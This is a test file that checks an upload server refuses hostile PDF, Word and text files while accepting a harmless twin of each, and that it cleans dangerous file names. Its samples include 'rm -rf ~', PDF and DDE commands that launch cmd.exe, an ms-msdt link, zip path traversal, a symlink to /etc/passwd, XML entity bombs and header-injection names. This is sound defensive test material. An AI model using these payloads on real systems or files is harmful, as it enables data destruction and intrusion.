/**
 * Hostile files from the wire: none is taken, none breaks the server, and a harmless twin of each is.
 *
 * A twin differs from its hostile brother in nothing but what makes that one hostile, so that no file is refused for another reason.
 */
import { deflateSync } from 'node:zlib';
import { Problem } from '@sotto/contract';
import { fileTypes } from '@sotto/domain';
import { accountFeature } from '@sotto/features/account/server';
import { newcomer } from '@sotto/features/account/testing';
import { policyFeature } from '@sotto/features/policy/server';
import { privacyFeature } from '@sotto/features/privacy/server';
import { settingsFeature } from '@sotto/features/settings/server';
import { startServer, type TestServer, type Visitor } from '@sotto/testing';
import { zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createDocument, getDocuments, type UploadType } from '../api.ts';
import { documentsFeature } from './index.ts';
import { docx, docxParts, pdf, pdfStream, rels } from './testing.ts';

const { pdf: asPdf, docx: asDocx } = fileTypes;
const asText = 'application/octet-stream';
const utf8 = (text: string) => Buffer.from(text, 'utf8');
const latin1 = (text: string) => Buffer.from(text, 'latin1');
const object = (content: string) => pdf({ more: `5 0 obj\n<< ${content} >>\nendobj` });
const packed = (content: string, filter = '/FlateDecode') =>
  pdf({ more: pdfStream(`/Type /ObjStm /N 1 /First 4 /Filter ${filter}`, deflateSync(latin1(content))) });
const linked = (link: Parameters<typeof rels>[0], part = 'word/_rels/document.xml.rels') => docx({ [part]: rels(link) });
const body = (content: string) =>
  docx({ 'word/document.xml': utf8(`<?xml version="1.0"?><w:document xmlns:w="x"><w:body>${content}</w:body></w:document>`) });
const attached = (name: string) => object(`/Type /Filespec /F (${name}) /UF (${name}) /EF << /F 6 0 R >>`);
const spaces = (count: number) => Buffer.alloc(count, ' ');
const noise = (count: number) => Buffer.from(Array.from({ length: count }, (_, at) => (at * at * 31 + at * 7) & 0xff));
const parts = (count: number) =>
  docx(Object.fromEntries(Array.from({ length: count }, (_, at) => [`word/p${at}.xml`, utf8('<a/>')])));
const objects = (count: number) => pdf({ more: Array.from({ length: count }, (_, at) => `${at + 9} 0 obj 1 endobj`).join('\n') });
const archive = Buffer.from(zipSync({ 'evil.class': utf8('x') }));
/** A number of an archive's list changed, at `offset` of its first entry. */
function listed(file: Buffer, offset: number, value: number): Buffer {
  const changed = Buffer.from(file);
  changed.writeUInt32LE(value, changed.indexOf('PK\x01\x02', 0, 'latin1') + offset);
  return changed;
}

/** What it is, the hostile file, its twin, the type both are sent as. */
const cases: readonly (readonly [string, Buffer, Buffer, UploadType])[] = [
  // Something else than it says.
  ['a program called a PDF', latin1('MZ\x90\0\x03\0\0\0%PDF-1.7\n%%EOF'), pdf(), asPdf],
  ['a PDF called a Word document', pdf(), docx(), asDocx],
  ['a Word document called a PDF', docx(), pdf(), asPdf],
  ['a page called text', utf8('<!doctype html><script>alert(1)</script>'), utf8('doctype html, script, alert'), asText],
  ['a drawing called text', utf8('\ufeff \n<svg onload="alert(1)"/>'), utf8('\ufeff \nsvg onload'), asText],
  ['a shell script called text', utf8('#!/bin/sh\nrm -rf ~'), utf8('# Ana Ferrer\nrm -rf ~'), asText],
  ['rich text called text', utf8('{\\rtf1\\object\\objdata 0105}'), utf8('{rtf1 object}'), asText],
  ['PostScript called text', utf8('%!PS-Adobe-3.0\nsystemdict'), utf8('100 % PS'), asText],
  ['a mail archive called text', utf8('MIME-Version: 1.0\nContent-Type: text/html'), utf8('A MIME-Version: 1.0'), asText],
  ['text with null bytes', utf8('Ana\0.exe'), utf8('Ana.exe'), asText],
  ['text with an escape', utf8('Ana\u001b]0;evil\u0007'), utf8('Ana]0;evil'), asText],
  ['text in another encoding', Buffer.from('\ufeffAna', 'utf16le'), utf8('\ufeffAna'), asText],
  // Two files in one.
  ['a PDF with an archive behind it', Buffer.concat([pdf(), archive]), Buffer.concat([pdf(), utf8('\n\n')]), asPdf],
  [
    'a PDF with an archive in its last stream',
    pdf({ more: pdfStream('/A true', archive) }).subarray(0, -1),
    pdf({ more: pdfStream('/A true', archive.subarray(0, -30)) }),
    asPdf,
  ],
  ['a page before a PDF', Buffer.concat([utf8('<script>1</script>'), pdf()]), pdf(), asPdf],
  [
    'a PDF in the first part of a Word document',
    Buffer.from(zipSync({ 'a.txt': [pdf(), { level: 0 }], ...docxParts })),
    Buffer.from(zipSync({ 'a.txt': [utf8('a'), { level: 0 }], ...docxParts })),
    asDocx,
  ],
  ['a Word document with something behind it', Buffer.concat([docx(), utf8('<script>')]), docx(), asDocx],
  // Torn.
  ['a PDF that is cut off', pdf().subarray(0, -12), pdf(), asPdf],
  ['a Word document that is cut off', docx().subarray(0, -30), docx(), asDocx],
  ['a Word document whose part lies outside', listed(docx(), 42, 0x7fff_fff0), docx(), asDocx],
  // PDFs that act by themselves.
  ['a PDF that is locked', pdf({ trailer: '/Encrypt 9 0 R ' }), pdf({ trailer: '/Encrypted 9 ' }), asPdf],
  [
    'a PDF with JavaScript',
    object('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
    object('/OpenAction [3 0 R /Fit]'),
    asPdf,
  ],
  ['a PDF with JavaScript spelled otherwise', object('/S /J#61vaScript /JS (x)'), object('/T (J#61vaScript)'), asPdf],
  ['a PDF with JavaScript behind a remark', object('/S%x\n/JavaScript /JS (x)'), object('/T%x\n(JavaScript)'), asPdf],
  ['a PDF with JavaScript packed', packed('4 0 << /S /JavaScript /JS (x) >>'), packed('4 0 << /T (JavaScript) >>'), asPdf],
  ['a PDF with a list of JavaScript', object('/Names << /JavaScript 6 0 R >>'), object('/Names << /Dests 6 0 R >>'), asPdf],
  ['a PDF that starts a program', object('/S /Launch /F (cmd.exe)'), object('/S /URI /URI (https://ana.example)'), asPdf],
  ['a PDF that sends data', object('/S /SubmitForm /F (https://x.example)'), object('/S /Named /N /NextPage'), asPdf],
  [
    'a PDF that opens a file elsewhere',
    object('/S /GoToR /F (\\\\\\\\x.example\\\\share)'),
    object('/S /GoTo /D [3 0 R /Fit]'),
    asPdf,
  ],
  ['a PDF with a program in it', attached('setup.exe'), attached('resume.xml'), asPdf],
  [
    'a PDF with a file under a hidden name',
    object('/UF <feff002e> /EF << /F 6 0 R >>'),
    object('/UF (a.txt) /EF << /F 6 0 R >>'),
    asPdf,
  ],
  ['a PDF with a film', object('/Subtype /RichMedia'), object('/Subtype /Link'), asPdf],
  ['a PDF with a model that runs', object('/Subtype /3D /OnInstantiate 6 0 R'), object('/Subtype /Text'), asPdf],
  ['a PDF that is a program for forms', object('/AcroForm << /XFA [6 0 R] >>'), object('/AcroForm << /Fields [] >>'), asPdf],
  ['a PDF that unpacks without end', packed(' '.repeat(40_000_000)), packed(' '.repeat(40_000)), asPdf],
  ['a PDF whose objects are packed twice', packed('x', '[/FlateDecode /ASCIIHexDecode]'), packed('x'), asPdf],
  ['a PDF of very many objects', objects(60_000), objects(2_000), asPdf],
  // Word documents that act by themselves, or carry what does.
  ['a document with macros', docx({ 'word/vbaProject.bin': noise(9) }), docx({ 'word/media/image1.png': noise(9) }), asDocx],
  [
    'a document that declares macros',
    docx({
      '[Content_Types].xml': utf8(
        '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      ),
    }),
    docx({ '[Content_Types].xml': utf8('<Types><Override ContentType="application/vnd.ms-word.document.main+xml"/></Types>') }),
    asDocx,
  ],
  [
    'a document that asks another program',
    body('<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText>'),
    body('<w:instrText xml:space="preserve"> PAGE </w:instrText>'),
    asDocx,
  ],
  [
    'a document that asks another program far within',
    body(`${'<w:p>Ana</w:p>'.repeat(9_000)}<w:fldSimple w:instr="DDE cmd"/>`),
    body(`${'<w:p>Ana</w:p>'.repeat(9_000)}<w:fldSimple w:instr="DATE"/>`),
    asDocx,
  ],
  [
    'a document with an object',
    docx({ 'word/embeddings/oleObject1.bin': noise(9) }),
    docx({ 'word/media/image1.emf': noise(9) }),
    asDocx,
  ],
  ['a document with an archive', docx({ 'word/media/more.zip': archive }), docx({ 'word/media/more.png': archive }), asDocx],
  ['a document with a shortcut', docx({ 'word/media/a.lnk': noise(9) }), docx({ 'word/media/a.jpeg': noise(9) }), asDocx],
  [
    'a document with a foreign page',
    linked({ type: 'aFChunk', target: 'x.xml' }),
    linked({ type: 'image', target: 'x.xml' }),
    asDocx,
  ],
  [
    'a document with a template from elsewhere',
    linked({ type: 'attachedTemplate', target: 'https://x.example/t.dotm', mode: 'External' }, 'word/_rels/settings.xml.rels'),
    linked({ type: 'attachedTemplate', target: 'Normal.dotm', mode: 'External' }, 'word/_rels/settings.xml.rels'),
    asDocx,
  ],
  [
    'a document with a picture from elsewhere',
    linked({ type: 'image', target: 'https://x.example/1.png', mode: 'External' }),
    linked({ type: 'hyperlink', target: 'https://x.example/1.png', mode: 'External' }),
    asDocx,
  ],
  [
    'a document that hides that it is elsewhere',
    linked({ type: 'oleObject', target: 'https://x.example', mode: '&#69;xternal' }),
    linked({ type: 'theme', target: 'theme/theme1.xml', mode: '&#73;nternal' }),
    asDocx,
  ],
  [
    'a document with a link that runs',
    linked({ type: 'hyperlink', target: 'ms-msdt:/id', mode: 'External' }),
    linked({ type: 'hyperlink', target: 'mailto:a@x.example', mode: 'External' }),
    asDocx,
  ],
  // Archives that lie.
  [
    'a document with rules of its own',
    docx({ 'word/a.xml': utf8('<!DOCTYPE x [<!ENTITY a "b">]><a>&a;</a>') }),
    docx({ 'word/a.xml': utf8('<!-- x --><a>b</a>') }),
    asDocx,
  ],
  [
    'a document with a billion laughs',
    docx({
      'word/a.xml': utf8(`<?xml version="1.0"?>${' '.repeat(99)}<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><a>&b;</a>`),
    }),
    docx({ 'word/a.xml': utf8(`<?xml version="1.0"?>${' '.repeat(99)}<a>ha</a>`) }),
    asDocx,
  ],
  ['a document with a part outside', docx({ '../../evil.xml': utf8('<a/>') }), docx({ 'evil/evil.xml': utf8('<a/>') }), asDocx],
  [
    'a document with a part on another disk',
    docx({ 'C:\\evil.xml': utf8('<a/>') }),
    docx({ 'C/evil.xml': utf8('<a/>') }),
    asDocx,
  ],
  [
    'a document with a part of a name with null',
    docx({ 'word/a\0.xml': utf8('<a/>') }),
    docx({ 'word/a.xml': utf8('<a/>') }),
    asDocx,
  ],
  [
    'a document with a link in its file system',
    docx({ 'word/l.xml': [utf8('/etc/passwd'), { os: 3, attrs: (0o120777 << 16) >>> 0 }] }),
    docx({ 'word/l.xml': [utf8('<a/>'), { os: 3, attrs: (0o100644 << 16) >>> 0 }] }),
    asDocx,
  ],
  ['a document of very many parts', parts(200), parts(190), asDocx],
  [
    'a document that unpacks without end',
    docx({ 'word/media/1.png': Buffer.alloc(60_000_000) }),
    docx({ 'word/media/1.png': Buffer.alloc(600_000) }),
    asDocx,
  ],
  ['a document that says it is small', listed(docx({ 'word/document.xml': spaces(900_000) }), 24, 9), docx(), asDocx],
  [
    'a document with a part twice',
    listed(docx({ 'word/a.xml': utf8('<a/>') }), 42, 60),
    docx({ 'word/a.xml': utf8('<a/>') }),
    asDocx,
  ],
  ['a document that is locked', listed(docx(), 8, 0x0008_0001), listed(docx(), 8, 0x0008_0000), asDocx],
];

/** Names that would lead astray: each comes back as one that does not. */
const names: readonly (readonly [string, string])[] = [
  ['../../../etc/passwd', 'passwd.pdf'],
  ['C:\\Windows\\system32\\evil.pdf', 'evil.pdf'],
  ['resume\u202efdp.exe', 'resumefdp.pdf'],
  ['resume.pdf\0.exe', 'resume.pdf.pdf'],
  ['a\r\nSet-Cookie: x=1.pdf', 'a Set-Cookie x=1.pdf'],
  ['"; filename=evil.exe', 'filename=evil.pdf'],
  ['CON.pdf', 'document.pdf'],
  ['.bashrc', 'document.pdf'],
  ['\u200b\u200b.pdf', 'document.pdf'],
];

describe('of hostile files', () => {
  let server: TestServer;
  let visitor: Visitor;
  beforeAll(async () => {
    server = await startServer({
      features: [accountFeature, privacyFeature, policyFeature, settingsFeature, documentsFeature],
    });
    visitor = await newcomer(server);
  });
  afterAll(() => server.stop());

  /** Why it was refused, by the kind of problem; `null`: it was taken. Whatever else happens is thrown. */
  async function verdictOn(bytes: Buffer, type: UploadType, fileName = 'x'): Promise<string | null> {
    const call = { query: { fileName }, body: new Blob([new Uint8Array(bytes)]), type };
    return visitor.call(createDocument, call).then(
      () => null,
      (cause: unknown) => {
        if (cause instanceof Problem) return cause.problem;
        throw cause;
      },
    );
  }

  test('there are enough', () => expect(cases.length).toBeGreaterThanOrEqual(40));

  test.for(cases)('%s is refused, and its twin taken', async ([, hostile, twin, type]) => {
    expect([await verdictOn(hostile, type), await verdictOn(twin, type)]).toEqual(['unprocessable', null]);
  });

  test.for(names)('the name %j comes back as %j', async ([fileName, safe]) => {
    expect(await verdictOn(pdf(), asPdf, fileName)).toBeNull();
    const { items } = (await visitor.call(getDocuments, {})).body;
    expect(items.some(({ latest }) => latest.name === safe)).toBe(true);
    const response = await visitor.fetch(`/api/v1/documents/${items[0]!.id}/versions/${items[0]!.latest.id}/file`);
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="document\.(?:pdf|docx|txt)"; filename\*=UTF-8''[\w%.!~-]+$/,
    );
  });
});
